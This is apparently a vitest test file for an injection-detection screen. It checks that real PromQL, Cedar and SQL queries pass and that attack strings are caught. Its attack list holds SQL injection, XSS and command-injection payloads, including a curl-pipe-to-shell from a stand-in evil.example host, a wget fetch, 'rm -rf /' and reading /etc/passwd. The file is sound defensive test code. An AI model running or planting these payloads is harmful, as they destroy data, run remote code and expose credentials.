import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectInjection, RULES, SUSPECT } from './injection.ts';

// Real queries and texts Warrant must accept: quotes, or/and, regexes, label_replace's $1, Cedar, markdown.
const legitimate = [
  'sum(rate(http_requests_total{job="api",status=~"5.."}[5m])) / sum(rate(http_requests_total{job="api"}[5m]))',
  'histogram_quantile(0.95, sum by (le) (rate(http_request_duration_seconds_bucket{service="checkout"}[5m])))',
  "up{job='node'} == 0 or absent(up{job='node'})",
  'count(kube_pod_status_phase{phase!="Running",namespace="shop"} > 0) and on() vector(1)',
  'label_replace(up, "host", "$1", "instance", "(.*):.*")',
  'rate(container_cpu_usage_seconds_total{pod=~"checkout-.*"}[$__rate_interval])',
  'sum without (instance) (rate(node_network_receive_bytes_total[1m])) > 1e6 unless on(job) up == 0',
  'Roll back checkout: the last release\'s error rate doubled; it\'s the "payments" path or the cart',
  'permit(principal, action, resource) when { context.env == "dev" || principal.role == "admin" && resource.risk != "high" };',
  '## Runbook\n```sh\nkubectl -n shop rollout undo deploy/checkout && kubectl -n shop get pods | grep checkout\n```',
  "SELECT count(*) FROM orders WHERE status = 'failed'",
  'Users asked for <b>bold</b> release notes; see <a href="https://example.com">the doc</a>',
];

const attacks: [string, string][] = [
  ["' OR '1'='1", 'sql_injection'],
  ['admin" or 1=1 --', 'sql_injection'],
  ["x'; DROP TABLE plans; --", 'sql_injection'],
  ['1 UNION SELECT password FROM users', 'sql_injection'],
  ["1'; SELECT pg_sleep(5)--", 'sql_injection'],
  ['<script>alert(1)</script>', 'xss'],
  ['<img src=x onerror=alert(1)>', 'xss'],
  ['javascript:alert(document.cookie)', 'xss'],
  ['checkout; rm -rf / --no-preserve-root', 'command_injection'],
  ['x && curl http://evil.example/p.sh | sh', 'command_injection'],
  ['$(wget http://evil.example/x)', 'command_injection'],
  ['a | cat /etc/passwd', 'command_injection'],
];

describe('the injection screen', () => {
  it.each(legitimate)('lets real work through: %s', (text) => {
    expect(detectInjection({ steps: [{ input: { query: text } }], summary: text })).toBeUndefined();
  });

  it.each(attacks)('catches %s', (payload, type) => {
    expect(detectInjection({ a: [{ b: payload }] })).toEqual({ attack_type: type, value: payload });
  });

  it('looks at keys too, and ignores non-strings', () => {
    expect(detectInjection({ '<script>x</script>': 1 })?.attack_type).toBe('xss');
    expect(detectInjection({ n: 1, b: true, z: null })).toBeUndefined();
  });

  it('never lets the one-scan prefilter hide a string some rule catches', () => {
    // Strings built from the rules' own vocabulary, so that matches are common rather than rare.
    const pieces = [
      ...attacks.map(([payload]) => payload),
      ...legitimate,
      "'",
      '"',
      ';',
      '&',
      '|',
      '`',
      '$(',
      '<',
      ' ',
      'or',
      'OR',
      '=',
      '1',
      'a',
      'union',
      'select',
      'drop',
      'table',
      'rm -rf /',
      'curl',
      'wget',
      'sh',
      'javascript:',
      'script',
      'onerror=',
      'pg_sleep(',
      '(',
    ];
    const text = fc
      .array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 8 })
      .map((p) => p.join(''));
    fc.assert(
      fc.property(text, (candidate) => {
        if (RULES.some((rule) => rule.pattern.test(candidate))) expect(SUSPECT.test(candidate)).toBe(true);
      }),
      { numRuns: 5000 },
    );
  });
});
